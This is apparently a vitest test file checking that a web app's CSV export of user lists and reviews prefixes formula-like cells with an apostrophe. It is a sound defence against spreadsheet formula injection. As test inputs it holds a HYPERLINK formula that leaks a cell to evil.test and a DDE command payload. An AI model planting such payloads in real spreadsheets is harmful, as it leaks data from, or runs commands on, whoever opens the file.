import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/build-test-app';
import { caller } from '../../../test/http';
import { buildShow, registerUser } from '../../../test/factories';
import { dir, textFile } from '../../../test/import-fixtures';
import { openArchive } from './archive';

/**
 * The CSV export never hands a spreadsheet a formula (ADR 150): a cell starting with = + - @,
 * a tab or a carriage return is prefixed with an apostrophe, whoever wrote it. Here another
 * member's list (name and notes) reaches the export through "copy this list".
 */
const t = useTestApp({ importDir: path.join(dir, 'uploads-formulas') });

const call = caller(() => t.app);

const hyperlink = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")';

async function exportedCsv(token: string, name: string): Promise<string> {
  const res = await call(token, { method: 'GET', url: '/api/users/me/export?format=csv' });
  expect(res.statusCode).toBe(200);
  const archive = await openArchive(textFile(`formulas-${Date.now()}.zip`, res.rawPayload));
  try {
    const entry = archive.entries.find((e) => e.name === name)!;
    return (await archive.read(entry)).toString('utf8');
  } finally {
    archive.close();
  }
}

describe('CSV export and formulas', () => {
  it("neutralises a formula in another member's list copied into mine", async () => {
    const show = await buildShow(t.db, { title: '@Midnight' });
    const bob = await registerUser(t.app);
    const created = await call(bob.token, {
      method: 'POST',
      url: '/api/lists',
      payload: {
        name: hyperlink,
        items: [{ showId: show.id, notes: '+cmd|" /C calc"!A0' }],
      },
    });
    expect(created.statusCode).toBe(201);
    const ann = await registerUser(t.app);
    const copy = await call(ann.token, {
      method: 'POST',
      url: `/api/lists/${(created.json() as { id: number }).id}/duplicate`,
      payload: {},
    });
    expect(copy.statusCode).toBe(201);
    const review = await call(ann.token, {
      method: 'POST',
      url: '/api/reviews',
      payload: {
        showId: show.id,
        rating: 8,
        title: '-2+3 is my verdict',
        content: '=1+1 and a review long enough to pass the minimum length of a review body.',
      },
    });
    expect(review.statusCode).toBe(201);

    const lists = await exportedCsv(ann.token, 'lists.csv');
    expect(lists).toContain(`"'=HYPERLINK(""https://evil.test/?leak=""&A1,""Click for details"")"`);
    expect(lists).toContain(`"'+cmd|"" /C calc""!A0"`);
    expect(lists).toContain(`'@Midnight`);
    // No cell starts with a formula character.
    const cells = lists.split(/[,\n]/);
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);

    const reviews = await exportedCsv(ann.token, 'reviews.csv');
    expect(reviews).toContain(`'-2+3 is my verdict`);
    expect(reviews).toContain(`'=1+1 and a review`);
  });
});
